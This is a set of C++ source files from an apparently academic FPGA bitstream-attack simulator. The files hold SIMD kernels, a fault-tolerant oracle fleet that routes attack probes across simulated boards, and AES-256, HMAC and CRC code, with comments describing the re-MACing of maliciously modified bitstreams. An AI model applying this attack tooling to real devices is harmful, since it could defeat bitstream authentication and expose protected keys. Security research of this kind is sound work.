      return true;
#else
      return false;
#endif
  }
  return false;
}

bool host_supports(Backend b) {
  if (b == Backend::kScalar) return true;
#if (defined(__x86_64__) || defined(__i386__)) && (defined(__GNUC__) || defined(__clang__))
  if (b == Backend::kAvx2) return __builtin_cpu_supports("avx2") != 0;
  return __builtin_cpu_supports("avx512f") != 0 && __builtin_cpu_supports("avx512bw") != 0;
#else
  return false;
#endif
}

Backend auto_backend() { return resolve_usable(Backend::kAvx512); }

Backend best_fit_backend(unsigned lanes, Backend active) {
  if (lanes <= backend_lanes(Backend::kScalar)) return Backend::kScalar;
  if (lanes <= backend_lanes(Backend::kAvx2) && active == Backend::kAvx512 &&
      compiled(Backend::kAvx2) && host_supports(Backend::kAvx2)) {
    return Backend::kAvx2;
  }
  return active;
}

Backend active_backend() {
  const int v = active_slot().load(std::memory_order_acquire);
  if (v >= 0) return static_cast<Backend>(v);
  const Backend b = env_backend();
  active_slot().store(static_cast<int>(b), std::memory_order_release);
  return b;
}

Backend set_active_backend(Backend requested) {
  const Backend b = resolve_usable(requested);
  active_slot().store(static_cast<int>(b), std::memory_order_release);
  return b;
}

}  // namespace sbm::simd
