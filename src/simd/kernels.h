// Internal: per-backend factory entry points implemented by the kernel TUs.
// Declared unconditionally; only the TUs selected by the SBM_SIMD CMake
// option define them, and wide.cpp references each set behind the matching
// SBM_SIMD_HAS_* macro.
#pragma once

#include "simd/wide.h"

namespace sbm::simd {

std::unique_ptr<WideDevice> make_wide_device_avx2(const fpga::System& sys);
std::unique_ptr<WideNetSim> make_wide_net_sim_avx2(const netlist::Network& net);
std::unique_ptr<WideLutSim> make_wide_lut_sim_avx2(
    std::shared_ptr<const mapper::BatchLutTape> tape);

std::unique_ptr<WideDevice> make_wide_device_avx512(const fpga::System& sys);
std::unique_ptr<WideNetSim> make_wide_net_sim_avx512(const netlist::Network& net);
std::unique_ptr<WideLutSim> make_wide_lut_sim_avx512(
    std::shared_ptr<const mapper::BatchLutTape> tape);

}  // namespace sbm::simd
