// AVX2 kernel TU: the only place LaneVec<4> (256 lanes) is instantiated.
// Compiled with -mavx2 (see simd/CMakeLists.txt), which turns the
// lane_vec.h word loops into 256-bit VPAND/VPOR/VPXOR sequences.
#include "simd/kernels.h"
#include "simd/wide_impl.h"

namespace sbm::simd {

using Avx2Vec = LaneVec<4>;

std::unique_ptr<WideDevice> make_wide_device_avx2(const fpga::System& sys) {
  return std::make_unique<WideDeviceImpl<Avx2Vec>>(sys);
}

std::unique_ptr<WideNetSim> make_wide_net_sim_avx2(const netlist::Network& net) {
  return std::make_unique<WideNetSimImpl<Avx2Vec>>(net);
}

std::unique_ptr<WideLutSim> make_wide_lut_sim_avx2(
    std::shared_ptr<const mapper::BatchLutTape> tape) {
  return std::make_unique<WideLutSimImpl<Avx2Vec>>(std::move(tape));
}

}  // namespace sbm::simd
