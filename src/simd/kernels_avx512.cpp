// AVX-512 kernel TU: the only place LaneVec<8> (512 lanes) is instantiated.
// Compiled with -mavx512f -mavx512bw -mavx512vl (see simd/CMakeLists.txt);
// the Shannon mux step in lane_vec.h collapses into single VPTERNLOGQ
// instructions at this width.
#include "simd/kernels.h"
#include "simd/wide_impl.h"

namespace sbm::simd {

using Avx512Vec = LaneVec<8>;

std::unique_ptr<WideDevice> make_wide_device_avx512(const fpga::System& sys) {
  return std::make_unique<WideDeviceImpl<Avx512Vec>>(sys);
}

std::unique_ptr<WideNetSim> make_wide_net_sim_avx512(const netlist::Network& net) {
  return std::make_unique<WideNetSimImpl<Avx512Vec>>(net);
}

std::unique_ptr<WideLutSim> make_wide_lut_sim_avx512(
    std::shared_ptr<const mapper::BatchLutTape> tape) {
  return std::make_unique<WideLutSimImpl<Avx512Vec>>(std::move(tape));
}

}  // namespace sbm::simd
