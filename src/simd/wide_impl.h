// Template adapters behind the simd/wide.h interfaces.
//
// Included ONLY by the kernel TUs (kernels_avx2.cpp, kernels_avx512.cpp):
// instantiating these templates pulls in the full wide simulator bodies,
// which must be compiled with the matching -m flags.
#pragma once

#include "fpga/batch_device.h"
#include "fpga/system.h"
#include "mapper/batch_lut_sim.h"
#include "netlist/batch_sim.h"
#include "simd/wide.h"

namespace sbm::simd {

template <class LV>
class WideDeviceImpl final : public WideDevice {
 public:
  explicit WideDeviceImpl(const fpga::System& sys)
      : dev_(sys.design, sys.placed, sys.golden.layout, *sys.snapshot) {}
  unsigned lanes() const override { return fpga::BatchDeviceT<LV>::kLanes; }
  bool configure_lane(unsigned lane, std::span<const u8> bytes) override {
    return dev_.configure_lane(lane, bytes);
  }
  std::vector<std::optional<std::vector<u32>>> keystream(const snow3g::Iv& iv, size_t n,
                                                         unsigned lanes) override {
    return dev_.keystream(iv, n, lanes);
  }

 private:
  fpga::BatchDeviceT<LV> dev_;
};

template <class LV>
class WideNetSimImpl final : public WideNetSim {
 public:
  explicit WideNetSimImpl(const netlist::Network& net) : sim_(net) {}
  unsigned lanes() const override { return netlist::BatchSimulatorT<LV>::kLanes; }
  void set_input(netlist::NodeId input, bool value) override { sim_.set_input(input, value); }
  void set_input_lane(netlist::NodeId input, unsigned lane, bool value) override {
    sim_.set_input_lane(input, lane, value);
  }
  void set_input_word_lane(const netlist::Word& w, unsigned lane, u32 value) override {
    sim_.set_input_word_lane(w, lane, value);
  }
  void settle() override { sim_.settle(); }
  void clock() override { sim_.clock(); }
  void step() override { sim_.step(); }
  bool value(netlist::NodeId id, unsigned lane) const override { return sim_.value(id, lane); }
  u32 read_word_lane(const netlist::Word& w, unsigned lane) const override {
    return sim_.read_word_lane(w, lane);
  }
  void reset() override { sim_.reset(); }

 private:
  netlist::BatchSimulatorT<LV> sim_;
};

template <class LV>
class WideLutSimImpl final : public WideLutSim {
 public:
  explicit WideLutSimImpl(std::shared_ptr<const mapper::BatchLutTape> tape)
      : sim_(std::move(tape)) {}
  unsigned lanes() const override { return mapper::BatchLutSimulatorT<LV>::kLanes; }
  void set_tables(std::span<const u64> transposed) override { sim_.set_tables(transposed); }
  void set_lut_table(size_t lut_index, unsigned lane, u64 function_bits) override {
    sim_.set_lut_table(lut_index, lane, function_bits);
  }
  void set_input(netlist::NodeId input, bool value) override { sim_.set_input(input, value); }
  void set_input_lane(netlist::NodeId input, unsigned lane, bool value) override {
    sim_.set_input_lane(input, lane, value);
  }
  void set_input_word_lane(const netlist::Word& w, unsigned lane, u32 value) override {
    sim_.set_input_word_lane(w, lane, value);
  }
  void settle() override { sim_.settle(); }
  void clock() override { sim_.clock(); }
  void step() override { sim_.step(); }
  bool value(netlist::NodeId id, unsigned lane) const override { return sim_.value(id, lane); }
  u32 read_word_lane(const netlist::Word& w, unsigned lane) const override {
    return sim_.read_word_lane(w, lane);
  }
  void reset() override { sim_.reset(); }

 private:
  mapper::BatchLutSimulatorT<LV> sim_;
};

}  // namespace sbm::simd
