// Multi-board device fleet: survive board death without aborting the attack.
//
// A FleetOracle owns a pool of N simulated boards, each a DeviceOracle
// wrapped in its own faultsim::FaultyOracle whose noise stream is seeded
// per board — fault draws are a pure function of (fleet seed, board id,
// board-local physical run index), so a fleet campaign is bit-reproducible
// for any batch width, thread count, or scheduling order.
//
// A health tracker watches every board's outcome stream: an EWMA over
// timeout/truncation errors (plus the attack controller's corruption
// detections, fed back through Oracle::note_corruptions) quarantines a
// degrading board before its reads poison confirmation votes, and a run of
// consecutive timeouts presumes the board dead.  On presumed death the
// fleet re-flashes the in-flight chunk onto a spare and replays only the
// probes the dead board never answered — the pipeline continues mid-phase,
// the logical oracle_runs metric is untouched, and every replayed run is
// accounted in migration_runs so the physical ledger stays balanced:
//
//   physical = oracle + retry + vote + migration
//
// Optional hedged probes duplicate straggler chunks (ragged tails smaller
// than one batch) on a second healthy board; the merge is first-answer-wins
// with a deterministic tie-break (the primary board's answer wins whenever
// usable).  Hedge duplicates are accounted as migration_runs too.
//
// See DESIGN.md §4k for the migration protocol and determinism contract.
#pragma once

#include <memory>
#include <vector>

#include "attack/oracle.h"
#include "faultsim/faulty_oracle.h"
#include "faultsim/noise.h"
#include "obs/metrics.h"

namespace sbm::fleet {

/// Health states a board moves through (strictly forward: a quarantined
/// board never recovers within a campaign, a dead one never serves again).
enum class BoardState : u8 { kHealthy = 0, kQuarantined = 1, kDead = 2 };

const char* board_state_name(BoardState s);

/// Per-board health ledger, updated once per observed outcome.
struct BoardHealth {
  BoardState state = BoardState::kHealthy;
  /// EWMA over error observations (timeout/truncation outcomes and
  /// controller-reported vote corruptions), in [0, 1].
  double ewma_error = 0;
  /// Outcomes observed on this board (physical runs it answered for).
  size_t samples = 0;
  /// Current run of back-to-back timeouts; crossing
  /// FleetOptions::presumed_dead_after presumes the board dead.
  unsigned consecutive_timeouts = 0;
  /// Fleet-wide physical run count when the board was presumed dead.
  size_t died_at = static_cast<size_t>(-1);
};

struct FleetOptions {
  /// Pool size.  1 degenerates to a single FaultyOracle (no failover).
  unsigned boards = 4;
  /// Base noise profile; board i runs noise.scaled(noise_factors[i]) with a
  /// per-board seed derived from noise.seed and the board id.
  faultsim::NoiseProfile noise{};
  /// Per-board fault-rate multipliers (missing entries default to 1.0), so
  /// a fleet can mix sound and degraded boards deterministically.
  std::vector<double> noise_factors;
  /// Duplicate ragged tail chunks on a second healthy board and take the
  /// first usable answer (deterministic tie-break: primary wins).
  bool hedge = false;
  /// Scheduling knob: boards are preferred in (start_board + i) % boards
  /// order.  Logical attack results are invariant under this rotation —
  /// see the determinism contract in DESIGN.md §4k.
  unsigned start_board = 0;
  /// EWMA smoothing factor for the per-board error rate.
  double ewma_alpha = 0.08;
  /// EWMA error rate above which a board is quarantined (once it has
  /// min_health_samples observations and a healthy peer exists).
  double quarantine_error_rate = 0.25;
  /// Observations required before the EWMA is trusted for quarantine.
  size_t min_health_samples = 64;
  /// Consecutive timeouts that presume a board dead.  Deliberately below
  /// the retry layer's attempt budget (RetryPolicy::voting max_attempts =
  /// 6, AdaptiveConfig::max_attempts = 6) so the fleet migrates before the
  /// controller escalates the probe to kDead.
  unsigned presumed_dead_after = 4;
};

/// Oracle that fans one probe stream across a health-tracked board pool.
/// Logical semantics match a single board exactly (same ProbeOutcome
/// stream for settled probes); the physical ledger grows by the replayed
/// and hedged runs, reported via internal_runs()/migration_runs().
class FleetOracle : public attack::Oracle {
 public:
  FleetOracle(const fpga::System& system, const snow3g::Iv& iv, FleetOptions options,
              runtime::ThreadPool* pool = nullptr,
              unsigned batch_width = simd::kMaxLanes);

  runtime::ProbeOutcome run(std::span<const u8> bitstream, size_t words) override;
  std::vector<runtime::ProbeOutcome> run_batch(
      std::span<const std::vector<u8>> bitstreams, size_t words) override;
  unsigned batch_lanes() const override;
  /// Physical runs the fleet spent beyond the attack's demand: migration
  /// replays plus hedge duplicates.
  size_t internal_runs() const override { return migration_runs_; }
  /// Controller feedback: vote-detected corruptions are charged to the
  /// board that served the most recent chunk (a heuristic — votes can span
  /// a migration boundary — but a sound one for quarantine purposes).
  void note_corruptions(size_t count) override;

  // Fleet ledger.
  size_t migrations() const { return migrations_; }
  size_t quarantines() const { return quarantines_; }
  size_t hedged_wins() const { return hedged_wins_; }
  size_t migration_runs() const { return migration_runs_; }
  /// Probes that settled as timeouts because every board was dead.
  size_t lost_probes() const { return lost_probes_; }

  unsigned boards() const { return static_cast<unsigned>(boards_.size()); }
  unsigned alive_boards() const;
  const BoardHealth& board_health(unsigned i) const { return boards_[i]->health; }
  /// Physical runs board i executed (its FaultyOracle's counter); the sum
  /// over boards equals runs().
  size_t board_runs(unsigned i) const { return boards_[i]->faulty.runs(); }

 private:
  struct Board {
    Board(const fpga::System& system, const snow3g::Iv& iv,
          faultsim::NoiseProfile profile, runtime::ThreadPool* pool,
          unsigned batch_width, unsigned id);
    attack::DeviceOracle device;
    faultsim::FaultyOracle faulty;
    BoardHealth health;
    unsigned id = 0;
    obs::Gauge* g_error_ppm = nullptr;  // fleet.board<i>.error_ppm
    obs::Gauge* g_state = nullptr;      // fleet.board<i>.state
  };

  /// Next serving board: healthy boards first, then quarantined, in
  /// (start_board + i) % N rotation order; nullptr when all are dead.
  Board* pick_board();
  /// A usable (non-dead) board other than `not_this`, same order; nullptr
  /// when none exists.
  Board* pick_peer(const Board* not_this);
  /// Folds one outcome into the board's health ledger.
  void observe(Board& b, const runtime::ProbeOutcome& outcome);
  void fold_error(Board& b, bool is_error);
  void maybe_quarantine(Board& b);
  void declare_dead(Board& b);
  void publish_gauges(Board& b);

  FleetOptions options_;
  std::vector<std::unique_ptr<Board>> boards_;
  size_t last_serving_ = 0;  // board index of the most recent chunk
  size_t migration_runs_ = 0;
  size_t migrations_ = 0;
  size_t quarantines_ = 0;
  size_t hedged_wins_ = 0;
  size_t lost_probes_ = 0;
};

}  // namespace sbm::fleet
