#include "fleet/fleet.h"

#include <string>
#include <utility>

#include "common/bits.h"

namespace sbm::fleet {

namespace {

obs::Counter& c_migrations() {
  static obs::Counter& c = obs::MetricsRegistry::global().counter("fleet.migrations");
  return c;
}
obs::Counter& c_migration_runs() {
  static obs::Counter& c = obs::MetricsRegistry::global().counter("fleet.migration_runs");
  return c;
}
obs::Counter& c_quarantines() {
  static obs::Counter& c = obs::MetricsRegistry::global().counter("fleet.quarantines");
  return c;
}
obs::Counter& c_hedged_wins() {
  static obs::Counter& c = obs::MetricsRegistry::global().counter("fleet.hedged_wins");
  return c;
}
obs::Counter& c_lost_probes() {
  static obs::Counter& c = obs::MetricsRegistry::global().counter("fleet.lost_probes");
  return c;
}

/// A genuine answer the attack layer can settle on: a keystream or a real
/// rejection.  Timeouts and truncations are the board's problem, not the
/// probe's, and are what migration/hedging exist to paper over.
bool usable(const runtime::ProbeOutcome& o) {
  return o.ok() || o.error() == runtime::ProbeError::kRejected;
}

}  // namespace

const char* board_state_name(BoardState s) {
  switch (s) {
    case BoardState::kHealthy: return "healthy";
    case BoardState::kQuarantined: return "quarantined";
    case BoardState::kDead: return "dead";
  }
  return "?";
}

FleetOracle::Board::Board(const fpga::System& system, const snow3g::Iv& iv,
                          faultsim::NoiseProfile profile, runtime::ThreadPool* pool,
                          unsigned batch_width, unsigned board_id)
    : device(system, iv, pool, batch_width), faulty(device, profile), id(board_id) {
  const std::string prefix = "fleet.board" + std::to_string(board_id);
  auto& reg = obs::MetricsRegistry::global();
  g_error_ppm = &reg.gauge(prefix + ".error_ppm");
  g_state = &reg.gauge(prefix + ".state");
}

FleetOracle::FleetOracle(const fpga::System& system, const snow3g::Iv& iv,
                         FleetOptions options, runtime::ThreadPool* pool,
                         unsigned batch_width)
    : options_(std::move(options)) {
  const unsigned n = options_.boards == 0 ? 1 : options_.boards;
  boards_.reserve(n);
  for (unsigned i = 0; i < n; ++i) {
    // Per-board fault stream: same profile shape (scaled per board), seeded
    // as a pure function of (fleet seed, board id) so the board's draws
    // depend only on its own run order.
    const double factor =
        i < options_.noise_factors.size() ? options_.noise_factors[i] : 1.0;
    faultsim::NoiseProfile profile = options_.noise.scaled(factor);
    profile.seed = mix64(options_.noise.seed ^ (0x9e3779b97f4a7c15ull * (i + 1)));
    boards_.push_back(
        std::make_unique<Board>(system, iv, profile, pool, batch_width, i));
    publish_gauges(*boards_.back());
  }
  last_serving_ = options_.start_board % boards_.size();
}

unsigned FleetOracle::batch_lanes() const { return boards_[0]->faulty.batch_lanes(); }

unsigned FleetOracle::alive_boards() const {
  unsigned alive = 0;
  for (const auto& b : boards_)
    if (b->health.state != BoardState::kDead) ++alive;
  return alive;
}

FleetOracle::Board* FleetOracle::pick_board() {
  const size_t n = boards_.size();
  for (BoardState want : {BoardState::kHealthy, BoardState::kQuarantined}) {
    for (size_t i = 0; i < n; ++i) {
      Board& b = *boards_[(options_.start_board + i) % n];
      if (b.health.state == want) return &b;
    }
  }
  return nullptr;
}

FleetOracle::Board* FleetOracle::pick_peer(const Board* not_this) {
  const size_t n = boards_.size();
  for (BoardState want : {BoardState::kHealthy, BoardState::kQuarantined}) {
    for (size_t i = 0; i < n; ++i) {
      Board& b = *boards_[(options_.start_board + i) % n];
      if (&b != not_this && b.health.state == want) return &b;
    }
  }
  return nullptr;
}

void FleetOracle::fold_error(Board& b, bool is_error) {
  b.health.ewma_error = (1.0 - options_.ewma_alpha) * b.health.ewma_error +
                        (is_error ? options_.ewma_alpha : 0.0);
}

void FleetOracle::observe(Board& b, const runtime::ProbeOutcome& outcome) {
  ++b.health.samples;
  const bool timeout = !outcome.ok() && (outcome.error() == runtime::ProbeError::kTimeout ||
                                         outcome.error() == runtime::ProbeError::kDead);
  const bool corrupt = !outcome.ok() && outcome.error() == runtime::ProbeError::kCorrupt;
  fold_error(b, timeout || corrupt);
  if (timeout) {
    if (++b.health.consecutive_timeouts >= options_.presumed_dead_after &&
        b.health.state != BoardState::kDead) {
      declare_dead(b);
    }
  } else {
    b.health.consecutive_timeouts = 0;
  }
  maybe_quarantine(b);
}

void FleetOracle::maybe_quarantine(Board& b) {
  if (b.health.state != BoardState::kHealthy) return;
  if (b.health.samples < options_.min_health_samples) return;
  if (b.health.ewma_error <= options_.quarantine_error_rate) return;
  // Keep the last healthy board in service: quarantine exists to steer work
  // to a better peer, and with no peer the degraded board is still the best
  // (only) option.
  bool peer = false;
  for (const auto& other : boards_)
    if (other.get() != &b && other->health.state == BoardState::kHealthy) peer = true;
  if (!peer) return;
  b.health.state = BoardState::kQuarantined;
  ++quarantines_;
  c_quarantines().add();
  publish_gauges(b);
}

void FleetOracle::declare_dead(Board& b) {
  b.health.state = BoardState::kDead;
  b.health.died_at = runs_;
  publish_gauges(b);
}

void FleetOracle::publish_gauges(Board& b) {
  b.g_error_ppm->set(static_cast<u64>(b.health.ewma_error * 1e6));
  b.g_state->set(static_cast<u64>(b.health.state));
}

void FleetOracle::note_corruptions(size_t count) {
  Board& b = *boards_[last_serving_];
  // Silent corruptions are only visible to the vote layer; fold them into
  // the error EWMA (without inflating the sample count — these reads were
  // already counted when observed) so a board that lies often enough gets
  // quarantined even though its outcomes looked fine at the fleet boundary.
  for (size_t i = 0; i < count; ++i) fold_error(b, true);
  maybe_quarantine(b);
  publish_gauges(b);
}

runtime::ProbeOutcome FleetOracle::run(std::span<const u8> bitstream, size_t words) {
  std::vector<std::vector<u8>> one;
  one.emplace_back(bitstream.begin(), bitstream.end());
  auto out = run_batch(one, words);
  return std::move(out[0]);
}

std::vector<runtime::ProbeOutcome> FleetOracle::run_batch(
    std::span<const std::vector<u8>> bitstreams, size_t words) {
  const size_t n = bitstreams.size();
  std::vector<runtime::ProbeOutcome> out(
      n, runtime::ProbeOutcome(runtime::ProbeError::kTimeout));
  std::vector<size_t> work(n);
  for (size_t i = 0; i < n; ++i) work[i] = i;

  bool replaying = false;
  while (!work.empty()) {
    Board* board = pick_board();
    const bool all_dead = board == nullptr;
    if (all_dead) {
      // Every board is gone.  Mimic a dead single board exactly: route the
      // attempts to the last serving board anyway (a dead board still eats
      // the reconfiguration attempt and times out), so the attack layer
      // sees persistent timeouts and escalates to kDead as it would have
      // without a fleet.
      board = boards_[last_serving_].get();
      lost_probes_ += work.size();
      c_lost_probes().add(work.size());
    } else {
      last_serving_ = board->id;
    }

    std::vector<std::vector<u8>> chunk;
    chunk.reserve(work.size());
    for (size_t idx : work) chunk.emplace_back(bitstreams[idx]);
    std::vector<runtime::ProbeOutcome> answers = board->faulty.run_batch(chunk, words);
    runs_ += chunk.size();
    if (replaying) {
      migration_runs_ += chunk.size();
      c_migration_runs().add(chunk.size());
    }
    for (const auto& a : answers) observe(*board, a);

    // Hedge ragged tails: a chunk smaller than one batch leaves lanes idle,
    // so duplicating it on a peer costs no extra wall clock on real
    // hardware while rescuing transient timeouts/truncations.  The merge
    // is deterministic: the primary's answer wins whenever usable.
    if (options_.hedge && !all_dead && chunk.size() < batch_lanes()) {
      if (Board* peer = pick_peer(board)) {
        std::vector<runtime::ProbeOutcome> hedged = peer->faulty.run_batch(chunk, words);
        runs_ += chunk.size();
        migration_runs_ += chunk.size();
        c_migration_runs().add(chunk.size());
        for (const auto& a : hedged) observe(*peer, a);
        for (size_t i = 0; i < answers.size(); ++i) {
          if (!usable(answers[i]) && usable(hedged[i])) {
            answers[i] = std::move(hedged[i]);
            ++hedged_wins_;
            c_hedged_wins().add();
          }
        }
      }
    }

    for (size_t i = 0; i < work.size(); ++i) out[work[i]] = std::move(answers[i]);

    // Migration: the serving board was presumed dead during this chunk and
    // a spare remains — re-flash only the probes it never answered (the
    // timeouts) onto the spare and keep going mid-phase.  Probes it did
    // answer are settled; their outcomes stand.
    if (!all_dead && board->health.state == BoardState::kDead && pick_board() != nullptr) {
      std::vector<size_t> replay;
      for (size_t idx : work) {
        if (!out[idx].ok() && out[idx].error() == runtime::ProbeError::kTimeout)
          replay.push_back(idx);
      }
      if (!replay.empty()) {
        ++migrations_;
        c_migrations().add();
        work = std::move(replay);
        replaying = true;
        continue;
      }
    }
    break;
  }

  publish_gauges(*boards_[last_serving_]);
  return out;
}

}  // namespace sbm::fleet
