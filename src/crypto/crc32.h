// CRC-32 used for bitstream integrity.
//
// Xilinx 7-series devices protect configuration frames with a 32-bit CRC
// (UG470).  We expose two flavours:
//   * Crc32: the ubiquitous reflected CRC-32 (poly 0x04C11DB7, as in
//     Ethernet/zlib), used for whole-bitstream convenience checks.
//   * Crc32C: the Castagnoli polynomial 0x1EDC6F41, which is what the
//     7-series configuration logic actually computes over (data, address)
//     pairs.  Our bitstream layer uses this one for the CRC register write.
#pragma once

#include <cstdint>
#include <span>

#include "common/bits.h"

namespace sbm::crypto {

/// Streaming reflected CRC with a compile-time-selected polynomial.
class Crc32Engine {
 public:
  explicit Crc32Engine(u32 reflected_poly);

  void reset() { state_ = 0xffffffffu; }
  void update(std::span<const u8> data);
  void update_byte(u8 b);
  /// Final CRC value (state xor-out).
  u32 value() const { return state_ ^ 0xffffffffu; }

 private:
  u32 table_[256];
  u32 state_ = 0xffffffffu;
};

/// One-shot reflected CRC-32 (poly 0x04C11DB7, reflected 0xEDB88320).
u32 crc32(std::span<const u8> data);

/// One-shot CRC-32C (Castagnoli, reflected 0x82F63B78).
u32 crc32c(std::span<const u8> data);

}  // namespace sbm::crypto
