// AES-256 block cipher and CTR mode (FIPS 197 / SP 800-38A).
//
// Two roles in this project:
//   * The bitstream-encryption layer (Xilinx 7-series style AES-256) that the
//     attack must strip/reapply when operating on encrypted bitstreams.
//   * The Rijndael S-box, which doubles as the SNOW 3G S1 table SR (the
//     SNOW 3G spec reuses the AES S-box verbatim).
//
// Tables are derived at first use from GF(2^8) arithmetic rather than being
// transcribed, and are locked in by known-answer tests.
#pragma once

#include <array>
#include <cstdint>
#include <span>
#include <vector>

#include "common/bits.h"

namespace sbm::crypto {

using Aes256Key = std::array<u8, 32>;
using AesBlock = std::array<u8, 16>;

/// The Rijndael forward S-box (identical to the SNOW 3G table SR).
const std::array<u8, 256>& aes_sbox();

/// AES-256 with a fixed key schedule; encrypt-only (CTR needs no decryptor).
class Aes256 {
 public:
  explicit Aes256(const Aes256Key& key);

  /// Encrypts one 16-byte block in place.
  void encrypt_block(AesBlock& block) const;

 private:
  // 15 round keys of 16 bytes each (Nr = 14).
  std::array<std::array<u8, 16>, 15> round_keys_{};
};

/// AES-256-CTR keystream XOR: encrypts or decrypts `data` in place (CTR is
/// an involution).  The 16-byte IV provides the initial counter block; the
/// counter occupies the last 4 bytes, big-endian.
void aes256_ctr_xor(const Aes256Key& key, const AesBlock& iv, std::span<u8> data);

}  // namespace sbm::crypto
