// HMAC-SHA-256 (RFC 2104 / FIPS 198-1).
//
// The paper's target devices authenticate bitstreams with a 256-bit HMAC
// whose key K_A is itself stored inside the (encrypted) bitstream.  The
// bitstream layer uses this module to implement that MAC-then-encrypt
// scheme, including re-MACing after a malicious modification.
#pragma once

#include <span>

#include "crypto/sha256.h"

namespace sbm::crypto {

/// Computes HMAC-SHA-256 over `data` with `key` (any length).
Sha256Digest hmac_sha256(std::span<const u8> key, std::span<const u8> data);

/// Constant-time digest comparison.
bool digest_equal(const Sha256Digest& a, const Sha256Digest& b);

}  // namespace sbm::crypto
