#include "crypto/aes256.h"

namespace sbm::crypto {
namespace {

// GF(2^8) with the AES reduction polynomial x^8 + x^4 + x^3 + x + 1.
constexpr u8 xtime(u8 a) { return static_cast<u8>((a << 1) ^ ((a & 0x80) ? 0x1b : 0x00)); }

constexpr u8 gf_mul(u8 a, u8 b) {
  u8 p = 0;
  for (int i = 0; i < 8; ++i) {
    if (b & 1) p = static_cast<u8>(p ^ a);
    a = xtime(a);
    b = static_cast<u8>(b >> 1);
  }
  return p;
}

std::array<u8, 256> make_sbox() {
  // Build the multiplicative inverse table via the generator 3, then apply
  // the AES affine transform.
  std::array<u8, 256> exp3{};
  std::array<u8, 256> log3{};
  u8 x = 1;
  for (int i = 0; i < 255; ++i) {
    exp3[static_cast<size_t>(i)] = x;
    log3[x] = static_cast<u8>(i);
    x = gf_mul(x, 3);
  }
  std::array<u8, 256> sbox{};
  for (int i = 0; i < 256; ++i) {
    const u8 inv = (i == 0) ? 0 : exp3[static_cast<size_t>((255 - log3[static_cast<size_t>(i)]) % 255)];
    u8 s = inv;
    u8 r = inv;
    for (int k = 0; k < 4; ++k) {
      r = static_cast<u8>((r << 1) | (r >> 7));
      s = static_cast<u8>(s ^ r);
    }
    sbox[static_cast<size_t>(i)] = static_cast<u8>(s ^ 0x63);
  }
  return sbox;
}

const std::array<u8, 256>& sbox_table() {
  static const std::array<u8, 256> table = make_sbox();
  return table;
}

constexpr std::array<u8, 10> kRcon = {0x01, 0x02, 0x04, 0x08, 0x10,
                                      0x20, 0x40, 0x80, 0x1b, 0x36};

}  // namespace

const std::array<u8, 256>& aes_sbox() { return sbox_table(); }

Aes256::Aes256(const Aes256Key& key) {
  const auto& sbox = sbox_table();
  // Key expansion for Nk = 8, Nr = 14: 60 32-bit words.
  std::array<std::array<u8, 4>, 60> w{};
  for (size_t i = 0; i < 8; ++i) {
    for (size_t j = 0; j < 4; ++j) w[i][j] = key[4 * i + j];
  }
  for (size_t i = 8; i < 60; ++i) {
    std::array<u8, 4> temp = w[i - 1];
    if (i % 8 == 0) {
      const u8 t0 = temp[0];
      temp[0] = static_cast<u8>(sbox[temp[1]] ^ kRcon[i / 8 - 1]);
      temp[1] = sbox[temp[2]];
      temp[2] = sbox[temp[3]];
      temp[3] = sbox[t0];
    } else if (i % 8 == 4) {
      for (auto& b : temp) b = sbox[b];
    }
    for (size_t j = 0; j < 4; ++j) w[i][j] = static_cast<u8>(w[i - 8][j] ^ temp[j]);
  }
  for (size_t r = 0; r < 15; ++r) {
    for (size_t c = 0; c < 4; ++c) {
      for (size_t j = 0; j < 4; ++j) round_keys_[r][4 * c + j] = w[4 * r + c][j];
    }
  }
}

void Aes256::encrypt_block(AesBlock& block) const {
  const auto& sbox = sbox_table();
  auto add_round_key = [&](size_t r) {
    for (size_t i = 0; i < 16; ++i) block[i] = static_cast<u8>(block[i] ^ round_keys_[r][i]);
  };
  auto sub_bytes = [&] {
    for (auto& b : block) b = sbox[b];
  };
  auto shift_rows = [&] {
    // State is column-major: byte (row, col) lives at block[4*col + row].
    AesBlock t = block;
    for (size_t row = 1; row < 4; ++row) {
      for (size_t col = 0; col < 4; ++col) {
        block[4 * col + row] = t[4 * ((col + row) % 4) + row];
      }
    }
  };
  auto mix_columns = [&] {
    for (size_t col = 0; col < 4; ++col) {
      u8* c = block.data() + 4 * col;
      const u8 a0 = c[0], a1 = c[1], a2 = c[2], a3 = c[3];
      c[0] = static_cast<u8>(gf_mul(a0, 2) ^ gf_mul(a1, 3) ^ a2 ^ a3);
      c[1] = static_cast<u8>(a0 ^ gf_mul(a1, 2) ^ gf_mul(a2, 3) ^ a3);
      c[2] = static_cast<u8>(a0 ^ a1 ^ gf_mul(a2, 2) ^ gf_mul(a3, 3));
      c[3] = static_cast<u8>(gf_mul(a0, 3) ^ a1 ^ a2 ^ gf_mul(a3, 2));
    }
  };

  add_round_key(0);
  for (size_t round = 1; round < 14; ++round) {
    sub_bytes();
    shift_rows();
    mix_columns();
    add_round_key(round);
  }
  sub_bytes();
  shift_rows();
  add_round_key(14);
}

void aes256_ctr_xor(const Aes256Key& key, const AesBlock& iv, std::span<u8> data) {
  const Aes256 aes(key);
  AesBlock counter = iv;
  size_t off = 0;
  while (off < data.size()) {
    AesBlock ks = counter;
    aes.encrypt_block(ks);
    const size_t take = std::min<size_t>(16, data.size() - off);
    for (size_t i = 0; i < take; ++i) data[off + i] = static_cast<u8>(data[off + i] ^ ks[i]);
    off += take;
    // Increment the 32-bit big-endian counter in bytes 12..15.
    for (int i = 15; i >= 12; --i) {
      if (++counter[static_cast<size_t>(i)] != 0) break;
    }
  }
}

}  // namespace sbm::crypto
