#include "crypto/hmac.h"

#include <array>

namespace sbm::crypto {

Sha256Digest hmac_sha256(std::span<const u8> key, std::span<const u8> data) {
  std::array<u8, 64> k_block{};
  if (key.size() > k_block.size()) {
    const Sha256Digest kd = sha256(key);
    std::copy(kd.begin(), kd.end(), k_block.begin());
  } else {
    std::copy(key.begin(), key.end(), k_block.begin());
  }

  std::array<u8, 64> ipad{};
  std::array<u8, 64> opad{};
  for (size_t i = 0; i < 64; ++i) {
    ipad[i] = static_cast<u8>(k_block[i] ^ 0x36);
    opad[i] = static_cast<u8>(k_block[i] ^ 0x5c);
  }

  Sha256 inner;
  inner.update(ipad);
  inner.update(data);
  const Sha256Digest inner_digest = inner.finish();

  Sha256 outer;
  outer.update(opad);
  outer.update(inner_digest);
  return outer.finish();
}

bool digest_equal(const Sha256Digest& a, const Sha256Digest& b) {
  u8 acc = 0;
  for (size_t i = 0; i < a.size(); ++i) acc = static_cast<u8>(acc | (a[i] ^ b[i]));
  return acc == 0;
}

}  // namespace sbm::crypto
