#include "crypto/crc32.h"

